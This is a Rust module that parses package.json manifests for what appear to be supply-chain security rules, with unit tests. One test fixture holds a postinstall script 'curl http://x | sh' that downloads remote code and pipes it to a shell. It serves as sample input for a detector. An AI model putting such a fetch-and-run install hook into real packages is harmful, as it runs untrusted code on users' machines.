//! package.json manifest parsing and accessors.

use serde_json::Value;

/// Parsed package manifest. Wraps the JSON value with the accessors the
/// supply-chain rules need.
#[derive(Debug, Clone, PartialEq)]
pub struct Manifest {
    value: Value,
}

impl Manifest {
    pub fn parse(content: &str) -> Result<Self, String> {
        let value: Value = serde_json::from_str(content).map_err(|e| e.to_string())?;
        if !value.is_object() {
            return Err("manifest root is not an object".to_string());
        }
        Ok(Self { value })
    }

    /// All `scripts` entries as `(name, command)` pairs.
    pub fn scripts(&self) -> Vec<(&str, &str)> {
        self.value
            .get("scripts")
            .and_then(|v| v.as_object())
            .map(|obj| {
                obj.iter()
                    .filter_map(|(k, v)| v.as_str().map(|s| (k.as_str(), s)))
                    .collect()
            })
            .unwrap_or_default()
    }

    /// Dependency entries from one section (`dependencies`,
    /// `devDependencies`, ...), as `(name, version_spec)` pairs.
    pub fn dependencies(&self, section: &str) -> Vec<(&str, &str)> {
        self.value
            .get(section)
            .and_then(|v| v.as_object())
            .map(|obj| {
                obj.iter()
                    .filter_map(|(k, v)| v.as_str().map(|s| (k.as_str(), s)))
                    .collect()
            })
            .unwrap_or_default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;

    #[test]
    fn scripts_extracted() {
        let m = Manifest::parse(r#"{"scripts": {"postinstall": "curl http://x | sh", "build": "tsc"}}"#)
            .unwrap();
        let mut scripts = m.scripts();
        scripts.sort();
        assert_eq!(
            scripts,
            vec![("build", "tsc"), ("postinstall", "curl http://x | sh")]
        );
    }

    #[test]
    fn missing_sections_are_empty() {
        let m = Manifest::parse(r#"{"name": "pkg"}"#).unwrap();
        assert!(m.scripts().is_empty());
        assert!(m.dependencies("dependencies").is_empty());
    }

    #[test]
    fn malformed_json_fails() {
        assert!(Manifest::parse("{not json").is_err());
        assert!(Manifest::parse("[1, 2]").is_err());
    }
}
